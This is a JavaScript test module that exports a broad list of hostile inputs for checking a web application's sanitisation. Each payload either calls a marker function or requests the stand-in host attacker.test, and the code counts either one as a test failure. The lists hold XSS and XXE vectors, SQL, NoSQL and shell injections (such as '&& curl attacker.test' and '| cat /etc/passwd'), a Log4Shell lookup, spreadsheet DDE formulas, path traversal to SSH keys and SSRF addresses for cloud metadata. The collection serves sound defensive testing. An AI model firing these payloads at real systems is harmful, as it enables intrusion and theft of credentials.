// What an attacker types, names a file, or writes into a record. Each that could run calls `hit()`, and each that could load asks the host
// `attacker.test`, which exists nowhere: a call, a request or an element of its own is a failure.

const HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "ontransitionend", "onbegin", "onwheel", "oncopy", "onbeforeinput", "onscrollend"];

const markup = [
  "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT>", "<script src=//attacker.test/x.js></script>", "<script/x>hit()</script>", "<scr<script>ipt>hit()</scr</script>ipt>",
  "<script type=module>hit()</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//attacker.test/\"]}]}</script>", "</script><script>hit()</script>",
  "<img src=x onerror=hit()>", "<img src=//attacker.test/x>", "<img srcset='//attacker.test/x 1x'>", "<image href=x onerror=hit()>", "<img/src=x/onerror=hit()>", "<img src=x onerror=hit()//", "<<img src=x onerror=hit()>",
  "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><set attributeName=onload to=hit()>", "<svg><foreignObject><iframe onload=hit()>", "<svg><use href=//attacker.test/x.svg#x>", "<svg><image href=//attacker.test/x>", "<svg><a xlink:href=javascript:hit()><text>x",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit()>", "<math href=javascript:hit()>x</math>", "<math><annotation-xml encoding=text/html><img src=x onerror=hit()>",
  "<iframe src=javascript:hit()>", "<iframe srcdoc='<script>parent.hit()</script>'>", "<iframe src=//attacker.test/>", "<object data=//attacker.test/>", "<object data='data:text/html,<script>parent.hit()</script>'>", "<embed src=//attacker.test/>", "<frameset onload=hit()>", "<portal src=//attacker.test/>",
  "<body onload=hit()>", "<body background=//attacker.test/>", "<html onmouseover=hit()>", "<base href=//attacker.test/>", "<link rel=stylesheet href=//attacker.test/x.css>", "<link rel=preconnect href=//attacker.test>", "<link rel=prefetch href=//attacker.test/>", "<link rel=modulepreload href=//attacker.test/x.js>",
  "<meta http-equiv=refresh content='0;url=//attacker.test/'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<style>@import '//attacker.test/x.css'</style>", "<style>*{background:url(//attacker.test/)}</style>", "<div style=background:url(//attacker.test/)>x</div>", "<p style=position:fixed;inset:0>x</p>",
  "<form action=//attacker.test/><button>x</form>", "<input autofocus onfocus=hit()>", "<button formaction=javascript:hit()>x", "<isindex action=javascript:hit() type=image>", "<select autofocus onfocus=hit()>", "<textarea autofocus onfocus=hit()>", "<keygen autofocus onfocus=hit()>",
  "<video src=//attacker.test/x onerror=hit()>", "<video><source onerror=hit()>", "<audio src=x onerror=hit()>", "<track src=//attacker.test/x>", "<video poster=//attacker.test/x>",
  "<details open ontoggle=hit()>", "<dialog open onclose=hit()>", "<marquee onstart=hit()>", "<a href=javascript:hit()>x</a>", "<a href=//attacker.test/ ping=//attacker.test/>x</a>", "<a target=_blank href=//attacker.test/>x</a>", "<template><script>hit()</script></template>", "<slot onslotchange=hit()>", "<x onclick=hit() style=animation-name:x>",
  "<!--><script>hit()</script>-->", "<![CDATA[<script>hit()</script>]]>", "<?xml-stylesheet href=//attacker.test/x.xsl?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<xss><!ENTITY % x SYSTEM '//attacker.test/x.dtd'>%x;", "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">", "<title><img src=x onerror=hit()></title>", "<textarea></textarea><img src=x onerror=hit()>", "<plaintext>", "<xmp><img src=x onerror=hit()></xmp>", "<listing>&lt;img src=x onerror=hit()&gt;",
  ...HANDLERS.map((handler) => `<b tabindex=0 ${handler}=hit()>x</b>`),
];

const attributes = [
  "\" onfocus=hit() autofocus x=\"", "' onfocus=hit() autofocus x='", "` onfocus=hit() autofocus x=`", "\"><script>hit()</script>", "'><script>hit()</script>", "--><script>hit()</script>", "]]><script>hit()</script>", "</title><script>hit()</script>", "</style><script>hit()</script>", "</textarea><script>hit()</script>", "</option></select><script>hit()</script>", "</noscript><script>hit()</script>",
  "x onclick=hit()", "x\tonclick=hit()", "x\nonclick=hit()", "x/onclick=hit()", "\" style=\"background:url(//attacker.test/)\" x=\"", "\"]{background:url(//attacker.test/)}[x=\"", "\" srcdoc=\"<script>parent.hit()</script>", "\" data-rule=\"form/json\" data-path=\"", "&quot; onclick=hit() x=&quot;", "&#34; onclick=hit() x=&#34;", "\\\" onclick=hit() x=\\\"",
];

const entities = [
  "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "&#x3c;script&#x3e;hit()&#x3c;/script&#x3e;", "&amp;lt;script&amp;gt;", "%3Cscript%3Ehit()%3C/script%3E", "%253Cscript%253Ehit()%253C/script%253E", "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "\\x3cscript\\x3ehit()\\x3c/script\\x3e", "+ADw-script+AD4-hit()+ADw-/script+AD4-", "＜script＞hit()＜/script＞", "﹤script﹥hit()﹤/script﹥", "‹script›hit()‹/script›", "¼script¾hit()¼/script¾", "\uFEFF<script>hit()</script>", "<\u0000script>hit()</script>", "<\u200Bscript>hit()</script>", "<ſcript>hit()</ſcript>", "<İmg src=x onerror=hit()>",
];

const addresses = [
  "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java\nscript:hit()", "\u0001javascript:hit()", " javascript:hit()", "javascript://attacker.test/%0ahit()", "javascript&colon;hit()", "&#106;avascript:hit()", "vbscript:hit()", "livescript:hit()", "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=hit()>", "data:text/javascript,hit()", "blob:null/0", "filesystem:http://attacker.test/x", "file:///etc/passwd", "view-source:http://attacker.test", "about:blank#hit()", "chrome://settings", "mailto:x@attacker.test?body=hit()", "tel:10086", "weixin://dl/x", "intent://attacker.test#Intent;end", "ws://attacker.test/", "http://attacker.test/", "https://attacker.test/?x=<script>hit()</script>", "//attacker.test/", "\\\\attacker.test\\share", "/\\attacker.test/", "http:attacker.test", "http://user:pass@attacker.test/", "http://attacker.test#@example.cn", "http://example.cn@attacker.test/", "http://example.cn.attacker.test/", "http://[::ffff:127.0.0.1]/", "http://127.1/", "http://0x7f000001/", "http://localhost:22/", "http://169.254.169.254/latest/meta-data/", "https://аttacker.test/", "https://attacker.test%00.example.cn/", "https://attacker.test/%0d%0aSet-Cookie:x=1", "https://attacker。test/",
];

const templates = [
  "{{hit()}}", "{{constructor.constructor('hit()')()}}", "${hit()}", "`${hit()}`", "#{hit()}", "<%= hit() %>", "{%hit()%}", "[[${hit()}]]", "{hit()}", "{{{hit()}}}", "@{hit()}", "*{hit()}", "{field}", "{given}", "{closest}", "{n}", "{name}", "{toString}", "{__proto__}", "{constructor}", "{0}", "{", "}", "{}", "{{", "$&", "$`", "$'", "$1", "$<name>", "%s%s%s%n", "%x%d%p", "%n%n%n%n", "\\{field\\}",
];

const objects = [
  "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "__lookupGetter__", "constructor.prototype", "__proto__.polluted", "[\"__proto__\"]", "then", "toJSON", "length", "0", "-1", "NaN", "undefined", "null", "true", "[object Object]", "Symbol(x)", "document", "location", "name", "nodeType", "attributes", "children", "submit", "innerHTML",
];

const characters = [
  "\u202Egpj.exe", "\u202Dabc\u202C", "\u2066abc\u2069", "\u2067اختبار\u2069", "\u200F\u200E", "\u061C", "a\u200Bb", "a\u200Db", "\u2060\u2061", "\uFEFF", "\u00AD\u00AD", "\u180E", "\u034F", "\u{E0041}\u{E0042}", "\uFE0F\uFE0F", "\u0000", "a\u0000b", "\u0007\u0008\u001B[31mred\u001B[0m", "\u001B]8;;http://attacker.test\u0007x\u001B]8;;\u0007", "\u0085\u2028\u2029", "\r\nSet-Cookie: x=1", "\n\n\n", "\t\t", "\uD800", "\uDFFF\uD800", "\uFFFE\uFFFF", "\uFDD0", "\u{10FFFF}", "Ａ１＜", "ﷺ", "ǅ", "İıſK", "é".normalize("NFD"), `a${"\u0301".repeat(300)}`, "👨‍👩‍👧‍👦🏳️‍🌈", "\u{1F468}\u200D", "᠎ᅟᅠㅤﾠ", "⠀⠀⠀", "测\uFE00试\uDB40\uDD00", "\u{2F800}\u2F00", "ᴊᴀᴠᴀ", "𝒋𝒂𝒗𝒂", "𝐡𝐢𝐭()", "ⓗⓘⓣ", "①②③", "Ⅹ", "пaypal", "аррӏе", "．．／", "a".repeat(5000), "长".repeat(3000), "\u0300".repeat(200), "  x  ", "\u3000x\u3000", "''\"\"``", "\\\\\\\\",
];

const formulas = [
  "=1+1", "=HYPERLINK(\"http://attacker.test\",\"x\")", "=IMPORTXML(\"http://attacker.test\",\"//x\")", "=WEBSERVICE(\"http://attacker.test\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "%0A=1+1", "\"=1+1", "'=1+1", "=\"350102\"", "=DDE(\"cmd\";\"/C calc\";\"x\")", ";=1+1", "x,y\",=1+1", "=1+1\"\r\n\"=2",
];

const commands = [
  "' OR '1'='1", "'; DROP TABLE filings;--", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "' UNION SELECT null,null--", "admin'--", "1/0", "'||(SELECT 1)||'", "%' AND 1=0 --", "{\"$gt\":\"\"}", "{\"$where\":\"hit()\"}", "*)(uid=*))(|(uid=*", "' or count(/*)=1 or '", "$(hit)", "`hit`", "; ls /", "| cat /etc/passwd", "&& curl attacker.test", "|| nslookup attacker.test", "${IFS}cat", "() { :;}; echo x", "%COMSPEC%", "${jndi:ldap://attacker.test/x}", "#exec cmd=ls", "<!--#exec cmd=\"ls\"-->", "O:8:\"stdClass\":0:{}", "rO0ABXNyABF", "!!python/object/apply:os.system [x]", "!<tag:yaml.org,2002:js/function> 'function(){hit()}'", "(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "((((((((((((((((((((",
];

const paths = [
  "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd", "/etc/passwd\u0000.png", "C:\\boot.ini", "\\\\?\\C:\\x", "CON", "NUL.txt", "AUX.png", "x.png:stream", "~/.ssh/id_rsa", "-rf", "--help", ".htaccess", "x.php;.png", "x.png.exe", "x.svg", "x.html", "a/b/../../c.png", "file\u202Egnp.exe", "文件名.png\r\nX: y", "x".repeat(250) + ".png", "<img src=x onerror=hit()>.png", "\"><script>hit()</script>.json", "javascript:hit().json", "=cmd|'x'!A0.csv", "${hit()}.png", "%00.png",
];

const structures = [
  "{\"__proto__\":{\"polluted\":true}}", "{\"constructor\":{\"prototype\":{\"polluted\":true}}}", "[[[[[[[[[[[[", "{\"a\":".repeat(50), "1e999", "-0", "0x10", "9007199254740993", "\"\\ud800\"", "// comment\n{}", "{,}", "{'a':1}", "NaN", "/*", "\u2028", "<?xml version=\"1.0\"?><x/>", "BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nACTION:PROCEDURE", "-----BEGIN PRIVATE KEY-----", "Domain Name: attacker.test\nRegistrant: <script>hit()</script>", "Registrant:\n".repeat(100), "PK\u0003\u0004../../x",
];

export const payloads = [...new Set([...markup, ...attributes, ...entities, ...addresses, ...templates, ...objects, ...characters, ...formulas, ...commands, ...paths, ...structures])];

/** Those that can be the name of a file on a disk or in a picker. */
export const fileNames = [...paths, ...markup.slice(0, 20), ...attributes.slice(0, 8), ...characters.slice(0, 20)].map((name) => name.replaceAll("\u0000", "").toWellFormed()).filter((name) => name !== "");
